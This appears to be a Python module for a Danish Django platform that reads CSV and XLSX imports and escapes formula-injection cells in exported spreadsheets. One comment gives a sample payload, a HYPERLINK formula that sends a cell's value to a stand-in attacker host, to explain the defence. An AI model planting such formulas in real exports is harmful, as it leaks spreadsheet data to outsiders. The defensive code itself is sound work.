"""Reading CSV and XLSX files for the importers (matches, companies, cohorts): bytes from a path or an
upload, the header and data rows, cell values as text, a header mapped to canonical column names, per-row
errors as the user sees them, and the rejects file; `collector_paused` for the import as a whole.

Writing: every CSV or XLSX the platform hands out goes through `safe_cell` / `safe_row` /
`safe_csv_writer` below, which neutralise cells a spreadsheet would run as formulas (issue 13).

CSV: ';', ',' or tab separated (detected from the header line), UTF-8 with or without BOM, Excel's
"Unicode text" (UTF-16) or Windows-1252 as older Danish Excel saves it. XLSX: the first worksheet.
"""

from __future__ import annotations

import csv
import datetime as dt
import gc
import io
import re
import zipfile
from collections.abc import Iterable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any

from django.utils.translation import gettext as _

REJECTS_ERROR_COLUMN = "fejl"
IN_CHUNK = 500  # ids per `__in` query; SQLite allows 999 parameters per statement
YES = {"ja", "j", "yes", "y", "true", "sand", "1", "x"}
NO = {"nej", "n", "no", "false", "falsk", "0", ""}

_INTLIKE = re.compile(r"(\d+)[,.]0+")
# C0 control characters other than tab, LF and CR, and DEL (as core.middleware refuses them in forms).
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@contextmanager
def collector_paused() -> Iterator[None]:
    """Python's cyclic garbage collector paused while an import runs (a context manager and a decorator).

    An import keeps every row of the file alive until it is written: hundreds of thousands of small
    objects (cells, parsed rows, the rows to insert). The collector starts a pass every few hundred
    allocations and its full passes walk all of them, again and again as the import goes on: about a
    fifth of a 100,000-row match import. The import's objects form no cycles (reference counting frees
    them), so nothing is lost by waiting; the collector is switched back on afterwards. Threads: whoever
    found it on switches it back on, so it is never left off."""
    enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if enabled:
            gc.enable()


@dataclass(frozen=True)
class RowError:
    """One problem: `row` as the user sees it in the spreadsheet (header = row 1; 0 = the whole file)."""

    row: int
    column: str
    message: str

    def __str__(self) -> str:
        if self.row == 0:
            return self.message
        return _("Række %(row)d, kolonne %(column)s: %(message)s") % {
            "row": self.row,
            "column": self.column,
            "message": self.message,
        }


class FileUnreadable(Exception):
    pass


# --------------------------------------------------------------------------------------------- reading


def read_bytes(path_or_file: str | Path | IO[bytes] | Any) -> tuple[bytes, str]:
    """The file's bytes and its name, from a path, an open binary file or a Django upload."""
    if isinstance(path_or_file, str | Path):
        path = Path(path_or_file)
        return path.read_bytes(), path.name
    if hasattr(path_or_file, "seek"):
        path_or_file.seek(0)
    if hasattr(path_or_file, "chunks"):  # Django UploadedFile
        data = b"".join(path_or_file.chunks())
    else:
        data = path_or_file.read()
    if isinstance(data, str):
        data = data.encode("utf-8")
    return data, Path(getattr(path_or_file, "name", "") or "").name


def read_table(data: bytes, filename: str) -> tuple[list[Any], Iterator[list[Any]]]:
    """The header cells and an iterator over the data rows (lists of cell values)."""
    suffix = Path(filename).suffix.lower()
    if data[:4] == b"PK\x03\x04" or suffix in (".xlsx", ".xlsm"):
        return read_xlsx(data)
    if data[:8] == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" or suffix == ".xls":
        raise FileUnreadable(_("Det gamle Excel-format (.xls) understøttes ikke. Gem filen som .xlsx eller CSV."))
    return read_csv(data)


def read_csv(data: bytes) -> tuple[list[Any], Iterator[list[Any]]]:
    try:
        if data[:2] in (b"\xff\xfe", b"\xfe\xff"):  # Excel's "Unicode text" (UTF-16, tab-separated)
            text = data.decode("utf-16")
        else:
            text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        # Older Danish Excel saves "CSV (semikolonsepareret)" in Windows-1252.
        text = data.decode("cp1252", errors="replace")
    control = _CONTROL.search(text)
    if control is not None:
        # A NUL byte or another control character: binary data, or a text file damaged on the way.
        line = text.count("\n", 0, control.start()) + 1
        raise FileUnreadable(
            _("Filen indeholder et kontroltegn (fx et NUL-tegn) i linje %(line)d, som ikke kan importeres. "
              "Er det den rigtige fil? Gem den igen som CSV (UTF-8) eller XLSX.") % {"line": line}
        )
    first_line = text.split("\n", 1)[0]
    delimiter = max((";", ",", "\t"), key=first_line.count) if first_line.strip() else ";"
    if first_line.count(delimiter) == 0:
        delimiter = ";"
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    try:
        header = next(reader)
    except StopIteration:
        raise FileUnreadable(_("Filen er tom."))
    except csv.Error as exc:
        raise FileUnreadable(_("Filen kunne ikke læses som CSV: %(e)s") % {"e": exc})

    def rows() -> Iterator[list[Any]]:
        try:
            yield from reader
        except csv.Error as exc:
            raise FileUnreadable(_("Filen kunne ikke læses som CSV: %(e)s") % {"e": exc})

    return header, rows()


def read_xlsx(data: bytes) -> tuple[list[Any], Iterator[list[Any]]]:
    from openpyxl import load_workbook

    try:
        workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True)
    except (zipfile.BadZipFile, KeyError, OSError, ValueError) as exc:
        raise FileUnreadable(_("Filen kunne ikke læses som XLSX: %(e)s") % {"e": exc})
    sheet = workbook.worksheets[0]
    iterator = sheet.iter_rows(values_only=True)
    try:
        header = list(next(iterator))
    except StopIteration:
        workbook.close()
        raise FileUnreadable(_("Filen er tom."))

    def rows() -> Iterator[list[Any]]:
        try:
            for row in iterator:
                yield list(row)
        finally:
            workbook.close()

    return header, rows()


# ----------------------------------------------------------------------------------------------- cells


def norm_header(value: Any) -> str:
    return re.sub(r"[\s\-]+", "_", str(value or "").replace("\ufeff", "").strip().lower())


def text(value: Any) -> str:
    """A cell as text: Excel numbers without a spurious '.0', dates as dd-mm-yyyy."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nej"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, dt.datetime | dt.date):
        return value.strftime("%d-%m-%Y")
    return str(value).strip()


def cell_text(value: Any) -> str:
    """`text`, with a fast path for the strings a CSV gives."""
    if type(value) is str:
        return value.strip()
    return text(value)


def blank(row: list[Any]) -> bool:
    try:
        return not "".join(row).strip()  # a CSV row, all strings: one pass in C
    except TypeError:  # an XLSX row: numbers, dates, None
        return not any(cell_text(v) for v in row)


def intlike(value: Any) -> str:
    """'851', 851, 851.0 and '851,0' (decimal comma from a Danish Excel) all give '851'."""
    value_text = text(value)
    m = _INTLIKE.fullmatch(value_text)
    return m.group(1) if m else value_text


def chunks(items: list[Any], size: int = IN_CHUNK) -> Iterable[list[Any]]:
    for i in range(0, len(items), size):
        yield items[i : i + size]


# ---------------------------------------------------------------------------------------------- header


def map_header(
    header: list[Any], rows: list[list[Any]], *, columns: Mapping[str, tuple[str, ...]], required: Iterable[str]
) -> tuple[dict[str, int], dict[str, str], list[RowError]]:
    """Column positions by canonical name, the headers as written, and the file's header errors.
    `columns`: canonical name -> accepted spellings (as normalised by `norm_header`)."""
    aliases = {alias: canonical for canonical, spellings in columns.items() for alias in spellings}
    positions: dict[str, int] = {}
    written: dict[str, str] = {}
    errors: list[RowError] = []
    allowed = ", ".join(columns)
    for i, cell in enumerate(header):
        label = text(cell).replace("\ufeff", "")
        if not label:
            if any(i < len(r) and text(r[i]) for r in rows):
                errors.append(
                    RowError(1, _("kolonne %(n)d") % {"n": i + 1}, _("Kolonnen har data, men ingen overskrift."))
                )
            continue
        canonical = aliases.get(norm_header(label))
        if canonical is None:
            errors.append(
                RowError(1, label, _("Ukendt kolonne. Tilladte kolonner: %(allowed)s.") % {"allowed": allowed})
            )
        elif canonical in positions:
            errors.append(
                RowError(
                    1, label, _("Kolonnen står flere gange (også som '%(other)s').") % {"other": written[canonical]}
                )
            )
        else:
            positions[canonical], written[canonical] = i, label
    for canonical in required:
        if canonical not in positions:
            errors.append(RowError(1, canonical, _("Den påkrævede kolonne mangler.")))
    return positions, written, errors


def extra_cells_error(rownum: int, raw: list[Any], width: int) -> RowError | None:
    """A row with data beyond the header's last column (a stray separator or quote), or None."""
    if len(raw) > width and any(cell_text(v) for v in raw[width:]):
        return RowError(
            rownum,
            _("kolonne %(n)d") % {"n": width + 1},
            _("Rækken har flere felter end overskriften. Tjek skilletegn og anførselstegn."),
        )
    return None


# --------------------------------------------------------------------------------------------- writing

# Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with one of these as a formula,
# e.g. =HYPERLINK("http://evil.example/?x="&A1;"klik"). A leading apostrophe makes it plain text.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def safe_cell(value: Any) -> Any:
    """The value, with a text cell that a spreadsheet would run as a formula prefixed by an apostrophe.
    Numbers stay numbers, and so does text that is only a signed number ("-1.200,50")."""
    if isinstance(value, str) and value[:1] in FORMULA_PREFIXES and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """`safe_cell` for each cell of a row (CSV rows and openpyxl `ws.append` alike)."""
    return [safe_cell(v) for v in values]


class _SafeWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(f: Any, **kwargs: Any) -> _SafeWriter:
    """`csv.writer(f, **kwargs)` whose rows pass through `safe_row`."""
    return _SafeWriter(csv.writer(f, **kwargs))


# --------------------------------------------------------------------------------------------- rejects


def write_rejects(
    path: str | Path | IO[str], header: list[Any], rejects: list[tuple[list[Any], list[RowError]]]
) -> None:
    """The rejected rows with their original columns and a 'fejl' column (CSV, ';', UTF-8 with BOM)."""

    def write(f: IO[str]) -> None:
        writer = safe_csv_writer(f, delimiter=";", lineterminator="\r\n")
        writer.writerow([text(h).replace("\ufeff", "") for h in header] + [REJECTS_ERROR_COLUMN])
        for raw, errors in rejects:
            cells = [text(v) for v in raw] + [""] * (len(header) - len(raw))
            writer.writerow(cells + ["; ".join(f"{e.column}: {e.message}" for e in errors)])

    if isinstance(path, str | Path):
        with open(path, "w", encoding="utf-8-sig", newline="") as f:
            write(f)
    else:
        path.write("\ufeff")
        write(path)
